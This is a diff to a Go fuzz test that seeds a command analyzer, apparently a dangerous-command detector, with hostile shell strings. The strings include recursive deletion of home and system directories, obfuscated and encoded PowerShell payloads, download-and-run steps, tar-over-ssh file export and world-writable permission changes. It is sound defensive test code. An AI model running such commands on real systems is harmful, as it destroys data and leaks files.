@@ -15,6 +15,9 @@ func FuzzAnalyze(f *testing.F) {
 		"tmux new -d 'rm' \\; send-keys -t 0 x Enter", "screen -dmS x -X stuff 'rm\\n'",
 		"python3 -c \"os.system(chr(114)+bytes.fromhex('72').decode()+'x'[::-1])\"", "rm -rf \"$(dirname \"$PWD\")\"",
 		"ssh -p 22 h rm -rf ~", "sqlite3 x '.shell rm -rf ~'", "Rscript -e 'system2(\"rm\", c(\"-rf\"))'",
+		"xargs -a <(echo ~) rm -rf", "while read d; do rm -rf \"$d\"; done < <(ls -d ~)", "export CURL_CA_BUNDLE=",
+		"Remove-Item -Recurse -Force $env:USERPROFILE; cmd /c \"rd /s /q %TEMP% && del /s C:\\\"", "powershell -enc SQBFAFgA",
+		"iwr -Uri: -OutFile; Start-Process -Verb", "tar czf - . | ssh h 'cat > s'", "chmod -R o+w,a=rwx *",
 	} {
 		f.Add(s)
 	}
